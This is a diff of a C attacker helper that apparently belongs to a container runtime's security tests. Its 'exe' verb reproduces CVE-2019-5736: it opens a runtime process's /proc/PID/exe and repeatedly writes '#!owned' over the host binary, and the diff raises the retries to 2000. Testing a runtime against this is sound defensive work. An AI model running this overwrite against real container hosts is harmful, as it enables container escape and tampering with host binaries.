@@ -1,6 +1,5 @@
 // What the attacks of test/attack run inside of a container, or beside one: `attacker VERB ...`. Static. Each verb says on stdout how far it came.
 #define _GNU_SOURCE
-#include <errno.h>
 #include <fcntl.h>
 #include <grp.h>
 #include <stdio.h>
@@ -88,7 +87,7 @@ static _Noreturn void spy(void) {
 static int overwrite(int image) {
   char path[64];
   snprintf(path, sizeof path, "/proc/self/fd/%d", image);
-  for (int tries = 0; tries < 400; tries++) {
+  for (int tries = 0; tries < 2000; tries++) {
     int fd = open(path, O_WRONLY);
     if (fd >= 0 && pwrite(fd, "#!owned\n", 8, 0) == 8) return 1;
     if (fd >= 0) close(fd);
@@ -97,30 +96,15 @@ static int overwrite(int image) {
   return 0;
 }
 
-// exe: catches the executable of the runtime's processes in its pid namespace, and writes to it (CVE-2019-5736).
-static _Noreturn void exe(void) {
-  int caught = 0, last = getpid();
-  say("watching", 0);
-  for (;;) {
-    for NEXT_PIDS(pid, last) {
-      char path[64], target[256];
-      snprintf(path, sizeof path, "/proc/%d/exe", pid);
-      ssize_t n = readlink(path, target, sizeof target - 1);
-      if (n <= 0) {
-        // One that may not be looked into yet: wait for it to execute its own file.
-        if (errno == EACCES && pid > last) last = pid;
-        continue;
-      }
-      target[n] = 0;
-      if (!strstr(target, "tsrunc-init")) continue;
-      int image = open(path, O_RDONLY);
-      if (image < 0) continue;
-      if (pid > last) last = pid;
-      say("caught", ++caught);
-      say(overwrite(image) ? "wrote to" : "gave up", pid);
-      close(image);
-    }
-  }
+// exe PID: opens the executable of a process of the runtime, and writes to it (CVE-2019-5736).
+static int exe(const char *pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%s/exe", pid);
+  int image = open(path, O_RDONLY);
+  say("caught", image >= 0);
+  if (image < 0) return 1;
+  say(overwrite(image) ? "wrote to" : "gave up", atoi(pid));
+  return 0;
 }
 
 // grant FILE: CAP_NET_RAW, inheritable, not effective by itself (VFS_CAP_REVISION_2).
@@ -161,7 +145,7 @@ int main(int argc, char **argv) {
   const char *verb = argc > 1 ? argv[1] : "";
   if (strcmp(verb, "swap") == 0 && argc == 4) swap(argv + 2);
   if (strcmp(verb, "spy") == 0) spy();
-  if (strcmp(verb, "exe") == 0) exe();
+  if (strcmp(verb, "exe") == 0 && argc == 3) return exe(argv[2]);
   if (strcmp(verb, "grant") == 0 && argc == 3) return grant(argv[2]);
   if (strcmp(verb, "leave") == 0 && argc == 3) return leave(argv[2]);
   if (strcmp(verb, "nest") == 0 && argc == 4) return nest(argv[2], atoi(argv[3]));
